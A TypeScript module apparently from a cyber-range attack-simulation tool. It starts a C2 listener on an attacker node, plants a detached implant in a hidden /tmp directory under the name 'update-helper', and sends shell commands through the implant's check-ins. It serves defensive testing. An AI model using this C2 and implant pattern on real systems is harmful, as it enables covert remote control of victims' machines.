/** The implant, the C2 listener it talks to on the attacker host, and commands sent through it. */
import { z } from 'zod';
import { WaitTimeoutError, retryUntil } from '../../core/index.js';
import type { RangeView } from '../run/range-view.js';
import { C2_LOG, C2_OWN_DIR, C2_PY, C2_TASKS, implantScript } from './c2-scripts.js';
import { defineAction, type SharedState } from './types.js';
import { b64, digest, q, writeFileScript } from './util.js';

export interface C2Entry {
  at: string;
  implant: string;
  from: string;
  method: string;
  body: string;
  task: string;
}

/** Makes sure a C2 answers on `node:port`: the attacker role's own listener, or one we start (and later stop). */
export async function ensureC2(range: RangeView, shared: SharedState, node: string, port: number): Promise<void> {
  const key = `${node}:${port}`;
  if (shared.c2.has(key)) return;
  const probe = await range.sh(node, `curl -fsS -m 3 --noproxy '*' http://127.0.0.1:${port}/health 2>/dev/null`);
  if (probe.stdout.includes('c2-ok')) {
    shared.c2.set(key, { port, pid: '' });
    return;
  }
  const script = [
    writeFileScript(`${C2_OWN_DIR}/c2.py`, C2_PY, '0755'),
    `mkdir -p ${C2_TASKS}`,
    `rm -f ${C2_OWN_DIR}/${port}.pid`,
    `{ setsid nohup python3 ${C2_OWN_DIR}/c2.py ${port} >/dev/null 2>${C2_OWN_DIR}/${port}.err </dev/null & }`,
    `for i in $(seq 50); do [ -s ${C2_OWN_DIR}/${port}.pid ] && break; sleep 0.1; done`,
    `cat ${C2_OWN_DIR}/${port}.pid || { cat ${C2_OWN_DIR}/${port}.err; exit 1; }`,
  ].join('\n');
  const r = await range.sh(node, script);
  if (r.exitCode !== 0)
    throw new Error(`the C2 listener did not start on ${node}:${port}: ${(r.stdout + r.stderr).trim()}`);
  shared.c2.set(key, { port, pid: r.stdout.trim() });
}

/** Stops what `ensureC2` started on a node and removes the C2's records of this attack. */
export async function cleanC2(
  range: RangeView,
  shared: SharedState,
  node: string,
  implantIds: string[],
): Promise<void> {
  const ours = [...shared.c2.entries()].filter(([k]) => k.startsWith(`${node}:`));
  const started = ours.filter(([, v]) => v.pid);
  const kills = started.map(([, v]) => `kill ${v.pid} 2>/dev/null;`).join(' ');
  // the attacker role's own listener keeps its task directory; one we started leaves nothing
  const dirs = started.length === ours.length && started.length ? `${C2_OWN_DIR} /srv/c2` : C2_OWN_DIR;
  for (const [k] of ours) shared.c2.delete(k);
  const tasks = implantIds
    .map((id) => `${C2_TASKS}/${id}`)
    .map(q)
    .join(' ');
  await range.sh(node, `${kills} rm -rf ${dirs} ${tasks} ${C2_LOG}; true`);
}

/** The C2's log lines for one implant id. */
export async function c2Entries(range: RangeView, node: string, implant: string): Promise<C2Entry[]> {
  const r = await range.sh(node, `grep -F ${q(`"implant": "${implant}"`)} ${C2_LOG} 2>/dev/null`);
  return r.stdout
    .split('\n')
    .filter(Boolean)
    .flatMap((l) => {
      try {
        return [JSON.parse(l) as C2Entry];
      } catch {
        return [];
      }
    });
}

function proxyUrl(range: RangeView, proxy: string | undefined): string | undefined {
  if (!proxy) return undefined;
  const [host, port = '3128'] = proxy.split(':');
  return `http://${range.address(host!)}:${port}`;
}

/**
 * Looks at the C2 every 500 ms until `look` finds something; undefined when the time ran out or
 * the attack was stopped (the caller tells which from the signal). Errors of the look end the step.
 */
async function watchC2<T>(
  signal: AbortSignal,
  what: string,
  timeoutMs: number,
  look: () => Promise<T | undefined>,
): Promise<T | undefined> {
  try {
    return await retryUntil(look, { what, timeoutMs, intervalMs: 500, signal });
  } catch (err) {
    if (err instanceof WaitTimeoutError || (signal.aborted && err === signal.reason)) return undefined;
    throw err;
  }
}

export const ImplantParams = z.object({
  c2: z.string().min(1).default('attacker'),
  port: z.number().int().min(1).max(65535).default(8080),
  proxy: z.string().optional(),
  name: z
    .string()
    .regex(/^[A-Za-z0-9._-]+$/)
    .default('update-helper'),
  interval: z.number().min(0.2).max(3600).default(2),
});

/** The implant's id, files and script for a node: the same whether installed or mailed. */
export function implantFiles(range: RangeView, node: string, p: z.output<typeof ImplantParams>) {
  const id = `${range.team}-${range.nodeName(node)}-${p.name}`.replace(/[^A-Za-z0-9._-]/g, '');
  const dir = `/tmp/.${p.name}`;
  const url = `http://${range.address(p.c2)}:${p.port}`;
  const proxy = proxyUrl(range, p.proxy);
  const script = implantScript({ url, ...(proxy ? { proxy } : {}), interval: p.interval, state: `${dir}/.s` });
  return { id, dir, path: `${dir}/${p.name}`, url, script };
}

export const implantAction = defineAction({
  kind: 'implant',
  summary:
    'start the benign implant on this node (as a user) and wait for its first check-in at the C2 on the attacker host',
  params: z
    .object({
      c2: z.string().min(1).default('attacker'),
      port: z.number().int().min(1).max(65535).default(8080),
      /** proxy node (or address) and port, e.g. "proxy:3128"; straight through the FW when absent */
      proxy: z.string().optional(),
      user: z.string().min(1),
      name: z
        .string()
        .regex(/^[A-Za-z0-9._-]+$/)
        .default('update-helper'),
      interval: z.number().min(0.2).max(3600).default(2),
      /** real seconds to wait for the first check-in before calling the channel blocked */
      timeout: z.number().min(1).max(600).default(20),
      /** the implant arrives another way (a phishing attachment the user opened): only wait for its check-in */
      delivered: z.boolean().default(false),
    })
    .strict(),
  async run(ctx, p) {
    const { id, dir, path, url, script } = implantFiles(ctx.range, ctx.node, p);
    await ensureC2(ctx.range, ctx.shared, p.c2, p.port);
    const c2Address = ctx.range.address(p.c2);
    const proxy = proxyUrl(ctx.range, p.proxy);
    // a replay or an earlier run may have left check-ins of the same id: only new ones count
    const before = p.delivered ? 0 : (await c2Entries(ctx.range, p.c2, id)).length;
    const install = p.delivered
      ? { exitCode: 0, stdout: '', stderr: '' }
      : await ctx.range.sh(
          ctx.node,
          `${writeFileScript(path, script, '0755')} && chown -R ${q(p.user)} ${dir} && su ${q(p.user)} -s /bin/sh -c ${q(`IMPLANT_ID=${id} setsid nohup ${path} >/dev/null 2>&1 </dev/null &`)}`,
        );
    const implant = { id, node: ctx.node, user: p.user, c2Node: p.c2, c2Address, port: p.port, path, seq: 0 };
    const cleanup = {
      label: `remove implant ${path} on ${ctx.node}`,
      run: async () => {
        await ctx.range.sh(ctx.node, `[ -s ${dir}/.s.pid ] && kill $(cat ${dir}/.s.pid) 2>/dev/null; rm -rf ${dir}`);
        ctx.shared.implants.delete(ctx.node);
        ctx.shared.implantIds.add(id);
        if (![...ctx.shared.implants.values()].some((i) => i.c2Node === p.c2))
          await cleanC2(ctx.range, ctx.shared, p.c2, [...ctx.shared.implantIds]);
      },
    };
    if (install.exitCode !== 0)
      return {
        outcome: 'failed',
        reason: `could not start the implant on ${ctx.node}: ${install.stderr.trim()}`,
        evidence: '',
        cleanup,
      };
    ctx.shared.implants.set(ctx.node, implant);
    ctx.shared.implantIds.add(id);
    const first = await watchC2(
      ctx.signal,
      `the first check-in of implant ${id} at the C2 ${url}`,
      p.timeout * 1000,
      async () => (await c2Entries(ctx.range, p.c2, id))[before],
    );
    if (first) {
      return {
        outcome: 'succeeded',
        evidence: `implant ${path} (id ${id}) as ${p.user} on ${ctx.node}; first check-in from ${first.from} at ${first.at} reached C2 ${url}${proxy ? ` via proxy ${proxy}` : ''}`,
        cleanup,
      };
    }
    if (ctx.signal.aborted)
      return {
        outcome: 'skipped',
        reason: 'the attack was stopped while waiting for the first check-in',
        evidence: '',
        cleanup,
      };
    const st = await ctx.range.sh(ctx.node, `cat ${dir}/.s ${dir}/.s.err 2>/dev/null | tail -n 2`);
    return {
      outcome: 'blocked',
      reason: `no check-in reached the C2 ${url} within ${p.timeout}s${proxy ? ` (via proxy ${proxy})` : ''}; the implant's last attempt: ${st.stdout.trim().replace(/\n/g, ' ') || 'none yet'}`,
      evidence: digest(`implant running on ${ctx.node} as ${p.user}, channel closed`, st.stdout),
      cleanup,
    };
  },
});

export const implantExecAction = defineAction({
  kind: 'implant-exec',
  summary:
    "run a shell command on this node through its implant (queued at the C2, fetched and answered by the implant's check-ins)",
  params: z
    .object({
      command: z.string().min(1),
      timeout: z.number().min(1).max(600).default(30),
      expect: z.string().optional(),
    })
    .strict(),
  async run(ctx, p) {
    const implant = ctx.shared.implants.get(ctx.node);
    if (!implant)
      return {
        outcome: 'failed',
        reason: `no implant runs on ${ctx.node} (no implant step succeeded there)`,
        evidence: '',
      };
    const n = ++implant.seq;
    const before = (await c2Entries(ctx.range, implant.c2Node, implant.id)).length;
    const tasks = `${C2_TASKS}/${implant.id}`;
    const queued = await ctx.range.sh(
      implant.c2Node,
      `mkdir -p ${C2_TASKS} && printf '%s\\n' ${q(`${n} ${b64(p.command)}`)} >> ${tasks}`,
    );
    if (queued.exitCode !== 0)
      return { outcome: 'failed', reason: `could not queue the task at the C2: ${queued.stderr.trim()}`, evidence: '' };
    const entry = await watchC2(
      ctx.signal,
      `the answer to task ${n} from implant ${implant.id}`,
      p.timeout * 1000,
      async () =>
        (await c2Entries(ctx.range, implant.c2Node, implant.id))
          .slice(before)
          .find((e) => e.body.startsWith(`result ${n}\n`)),
    );
    if (entry) {
      const out = entry.body.slice(`result ${n}\n`.length);
      const exit = /\[exit (\d+)\]\s*$/.exec(out)?.[1] ?? '0';
      const matched = !p.expect || new RegExp(p.expect, 'm').test(out);
      const ok = exit === '0' && matched;
      return {
        outcome: ok ? 'succeeded' : 'failed',
        ...(ok ? {} : { reason: !matched ? `output did not match /${p.expect}/` : `command exited ${exit}` }),
        evidence: digest(
          `via implant ${implant.id} (C2 ${implant.c2Address}:${implant.port}): ${p.command.split('\n')[0]!.slice(0, 120)}`,
          out,
        ),
        output: out,
      };
    }
    // the task never reached the implant: take it back so it cannot run later by surprise
    const stopped = ctx.signal.aborted;
    await ctx.range.sh(
      implant.c2Node,
      `[ -f ${tasks} ] && grep -vxF ${q(`${n} ${b64(p.command)}`)} ${tasks} > ${tasks}.tmp; mv -f ${tasks}.tmp ${tasks} 2>/dev/null; true`,
    );
    if (stopped)
      return {
        outcome: 'skipped',
        reason: `the attack was stopped while task ${n} waited for the implant`,
        evidence: '',
      };
    return {
      outcome: 'blocked',
      reason: `the implant on ${ctx.node} did not answer task ${n} within ${p.timeout}s (its C2 channel is cut?)`,
      evidence: '',
    };
  },
});
